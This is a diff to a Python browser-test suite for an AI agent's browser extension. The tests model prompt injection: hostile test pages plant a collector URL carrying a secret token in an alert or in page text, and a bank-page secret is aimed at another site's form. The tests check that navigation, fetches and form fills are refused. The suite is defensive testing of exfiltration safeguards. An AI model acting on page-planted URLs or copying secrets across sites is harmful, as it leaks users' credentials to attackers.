@@ -25,6 +25,7 @@ from tests.browser.harness import (
     code,
     confirm_page,
     keep_dialogs_open,
+    launched,
     mcp_client,
     ok,
     press,
@@ -84,28 +85,24 @@ def _decisions(browser: ThrowawayBrowser) -> list[tuple[str, str]]:
     return [(e["tool"], e["decision"]) for e in entries if e["event"] == "provenance"]
 
 
-def test_an_address_an_alert_planted_is_refused_under_strict_and_nothing_leaves(
+async def test_an_address_an_alert_planted_is_refused_under_strict_and_nothing_leaves(
     browser: ThrowawayBrowser, hostile: ServedSite, collector: ServedSite
 ) -> None:
     trust_this_process(browser, [hostile.origin, collector.origin])
     widen(browser, provenance="strict")
     planted = f"{collector.origin}/collect?ref={TOKEN}"
 
-    async def scenario() -> None:
-        async with chromium(browser) as context, mcp_client(browser) as agent:
-            keep_dialogs_open(context)
-            await wait_for_extension(agent, asyncio.get_running_loop().time() + 60)
-            tab = (await ok(agent, "tab_open", {"url": f"{hostile.origin}/alert"}))["tab"]["id"]
-            clicked = await agent.call_tool("page_click", {"tabId": tab, "selector": "#go"})
-            error = tool_error(clicked) or {}
-            assert error.get("code") == "dialog_open"
-            assert planted in str(clicked.content)  # the alert's text reached the model
-            other = (await ok(agent, "tab_open", {"url": f"{hostile.origin}/plain"}))["tab"]["id"]
-            going = {"tabId": other, "url": planted}
-            assert await code(agent, "page_navigate", going) == "provenance_refused"
-            assert await code(agent, "tab_open", {"url": planted}) == "provenance_refused"
-
-    asyncio.run(asyncio.wait_for(scenario(), GUARD))
+    async with launched(browser) as (context, agent):
+        keep_dialogs_open(context)
+        tab = (await ok(agent, "tab_open", {"url": f"{hostile.origin}/alert"}))["tab"]["id"]
+        clicked = await agent.call_tool("page_click", {"tabId": tab, "selector": "#go"})
+        error = tool_error(clicked) or {}
+        assert error.get("code") == "dialog_open"
+        assert planted in str(clicked.content)  # the alert's text reached the model
+        other = (await ok(agent, "tab_open", {"url": f"{hostile.origin}/plain"}))["tab"]["id"]
+        going = {"tabId": other, "url": planted}
+        assert await code(agent, "page_navigate", going) == "provenance_refused"
+        assert await code(agent, "tab_open", {"url": planted}) == "provenance_refused"
     assert _collected(collector) == []
     assert _decisions(browser) == [
         ("page_navigate", "provenance_refused"),
@@ -147,7 +144,7 @@ def test_page_fetch_get_and_post_of_a_planted_token_are_refused_under_strict(
     ]
 
 
-def test_a_page_suggested_page_fetch_asks_naming_the_request_before_the_fetch_window(
+async def test_a_page_suggested_page_fetch_asks_naming_the_request_before_the_fetch_window(
     browser: ThrowawayBrowser, hostile: ServedSite, collector: ServedSite
 ) -> None:
     """Under the default policy (confirm) the provenance question comes first, naming the page
@@ -156,20 +153,16 @@ def test_a_page_suggested_page_fetch_asks_naming_the_request_before_the_fetch_wi
     widen(browser, pageFetch=True)
     planted = f"{collector.origin}/collect?ref={TOKEN}"
 
-    async def scenario() -> None:
-        async with chromium(browser) as context, mcp_client(browser) as agent:
-            await wait_for_extension(agent, asyncio.get_running_loop().time() + 60)
-            tab = (await ok(agent, "tab_open", {"url": f"{hostile.origin}/text"}))["tab"]["id"]
-            await ok(agent, "page_text", {"tabId": tab})
-            fetching = asyncio.create_task(
-                agent.call_tool("page_fetch", {"tabId": tab, "url": planted})
-            )
-            window = await confirm_page(context)
-            await shows(window, f"A page on {hostile.origin} suggested this request: {planted}")
-            await press(window, "#deny")
-            assert (tool_error(await fetching) or {}).get("code") == "confirm_denied"
-
-    asyncio.run(asyncio.wait_for(scenario(), GUARD))
+    async with launched(browser) as (context, agent):
+        tab = (await ok(agent, "tab_open", {"url": f"{hostile.origin}/text"}))["tab"]["id"]
+        await ok(agent, "page_text", {"tabId": tab})
+        fetching = asyncio.create_task(
+            agent.call_tool("page_fetch", {"tabId": tab, "url": planted})
+        )
+        window = await confirm_page(context)
+        await shows(window, f"A page on {hostile.origin} suggested this request: {planted}")
+        await press(window, "#deny")
+        assert (tool_error(await fetching) or {}).get("code") == "confirm_denied"
     assert _collected(collector) == []
     assert _decisions(browser) == [("page_fetch", "confirm_denied")]
 
@@ -186,7 +179,7 @@ def form_site(hostile: ServedSite) -> Iterator[ServedSite]:
         yield site
 
 
-def test_a_secret_read_through_an_observation_is_not_filed_under_the_tabs_previous_origin(
+async def test_a_secret_read_through_an_observation_is_not_filed_under_the_tabs_previous_origin(
     browser: ThrowawayBrowser, hostile: ServedSite, form_site: ServedSite
 ) -> None:
     """A tab last seen on the form's site moves by itself to the bank's account page; the agent
@@ -197,23 +190,19 @@ def test_a_secret_read_through_an_observation_is_not_filed_under_the_tabs_previo
     trust_this_process(browser, [bank.origin, form_site.origin])
     widen(browser, provenance="strict")
 
-    async def scenario() -> None:
-        async with chromium(browser) as context, mcp_client(browser) as agent:
-            await wait_for_extension(agent, asyncio.get_running_loop().time() + 60)
-            form = (await ok(agent, "tab_open", {"url": f"{form_site.origin}/form"}))["tab"]["id"]
-            tab = (await ok(agent, "tab_open", {"url": f"{form_site.origin}/hop"}))["tab"]["id"]
-            deadline = time.monotonic() + 30
-            while not any(p.url == f"{bank.origin}/account" for p in context.pages):
-                assert time.monotonic() < deadline, [p.url for p in context.pages]
-                await asyncio.sleep(0.1)
-            scrolled = await ok(agent, "page_scroll", {"tabId": tab, "observe": {"text": True}})
-            assert TOKEN in scrolled["observation"]["text"]["text"]
-            typed = {"tabId": form, "selector": "#user", "value": TOKEN}
-            assert await code(agent, "page_fill", typed) == "provenance_refused"
-            state = await ok(agent, "page_get_state", {"tabId": form, "selector": "#user"})
-            assert state["value"] == ""
-
-    asyncio.run(asyncio.wait_for(scenario(), GUARD))
+    async with launched(browser) as (context, agent):
+        form = (await ok(agent, "tab_open", {"url": f"{form_site.origin}/form"}))["tab"]["id"]
+        tab = (await ok(agent, "tab_open", {"url": f"{form_site.origin}/hop"}))["tab"]["id"]
+        deadline = time.monotonic() + 30
+        while not any(p.url == f"{bank.origin}/account" for p in context.pages):
+            assert time.monotonic() < deadline, [p.url for p in context.pages]
+            await asyncio.sleep(0.1)
+        scrolled = await ok(agent, "page_scroll", {"tabId": tab, "observe": {"text": True}})
+        assert TOKEN in scrolled["observation"]["text"]["text"]
+        typed = {"tabId": form, "selector": "#user", "value": TOKEN}
+        assert await code(agent, "page_fill", typed) == "provenance_refused"
+        state = await ok(agent, "page_get_state", {"tabId": form, "selector": "#user"})
+        assert state["value"] == ""
     assert _decisions(browser) == [("page_fill", "provenance_refused")]
 
 
